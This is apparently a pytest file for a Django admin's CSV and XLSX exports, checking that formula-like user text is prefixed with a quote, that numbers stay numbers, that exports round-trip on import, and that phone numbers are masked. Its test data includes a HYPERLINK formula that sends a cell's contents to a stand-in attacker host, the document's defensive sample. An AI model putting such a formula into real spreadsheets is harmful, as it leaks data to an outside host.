"""Issue 10, finding 3: every export writes user text as text (a quote before = + - @ tab CR), numbers
stay numbers, exports still import back; phone numbers in free text are masked however they are written."""

import csv
import io

import openpyxl
import pytest

from gridgov.core.admin_io import csv_response, xlsx_response
from gridgov.core.privacy import mask_phones
from gridgov.core.rows import sheet_value, text
from gridgov.grids.models import Grid
from gridgov.people.models import Unit
from tests.core.admin_io_util import post_import, reupload

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看详情")'
STARTS = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", STARTS)
def test_formula_like_text_gets_a_quote_and_reads_back(value):
    assert sheet_value(value) == "'" + value
    assert text(sheet_value(value)) == value.strip()


def test_control_characters_no_workbook_holds_are_dropped():
    assert sheet_value("路灯\x01不亮\x1f") == "路灯不亮" and sheet_value("\x0b=1") == "'=1"
    openpyxl.load_workbook(io.BytesIO(xlsx_response(["a"], [["井盖\x07缺失"]], "x.xlsx", "t").content))


def test_other_values_are_unchanged():
    assert [sheet_value(v) for v in (-3, 2.5, None, "路灯不亮", "'引号", "")] == [
        -3,
        2.5,
        None,
        "路灯不亮",
        "'引号",
        "",
    ]


def test_xlsx_and_csv_responses_write_text_not_formulas():
    book = openpyxl.load_workbook(
        io.BytesIO(xlsx_response(["a"], [[v] for v in STARTS] + [[-3]], "x.xlsx", "t").content)
    )
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    # (XML turns a CR into a LF when read back: the quote in front is what counts)
    assert [c.value for c in cells[:-1]] == ["'" + v.replace("\r", "\n") for v in STARTS]
    assert all(c.data_type == "s" for c in cells[:-1])
    assert cells[-1].value == -3 and cells[-1].data_type == "n"
    body = csv_response(["a"], [[v] for v in STARTS], "x.csv").content.decode("utf-8-sig")
    assert [row[0] for row in csv.reader(io.StringIO(body, newline=""))][1:] == ["'" + v for v in STARTS]


@pytest.mark.parametrize(
    ("raw", "masked"),
    [
        ("电话138-1234-5678", "电话138****5678"),
        ("请联系 138 1234 5678 谢谢", "请联系 138****5678 谢谢"),
        ("+86 138-1234-5678", "+86 138****5678"),
        ("0086-13812345678", "0086-138****5678"),
        ("13812345678", "138****5678"),
        ("座机 0371-6666666", "座机 0371-*****66"),
        ("2026-11-12 10:00 3号楼12单元", "2026-11-12 10:00 3号楼12单元"),
    ],
)
def test_phones_in_free_text_are_masked_with_hyphens_or_spaces(raw, masked):
    assert mask_phones(raw) == masked


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_admin_exports_neutralise_and_round_trip(demo_city, root, fmt):
    unit = Unit.objects.filter(kind="department").order_by("code").first()
    Unit.objects.filter(pk=unit.pk).update(name=FORMULA)
    grid = Grid.objects.filter(level=3, valid_to__isnull=True).order_by("code").first()
    Grid.objects.filter(pk=grid.pk).update(name="=1+1")

    export = root.get(f"/admin/people/unit/export/{fmt}/", {"kind__exact": "department"})
    grids = root.get("/admin/grids/grid/export/" + fmt + "/", {"q": grid.code})
    for response, value in ((export, FORMULA), (grids, "=1+1")):
        if fmt == "xlsx":
            sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
            cell = next(c for row in sheet.iter_rows(min_row=2) for c in row if c.value == "'" + value)
            assert cell.data_type == "s"
            assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        else:
            assert "'" + value.replace('"', '""') in response.content.decode("utf-8-sig")
    # the quote is taken off again on import: a round trip changes nothing
    assert post_import(root, "/admin/people/unit/", reupload(export)).status_code == 302
    unit.refresh_from_db()
    assert unit.name == FORMULA
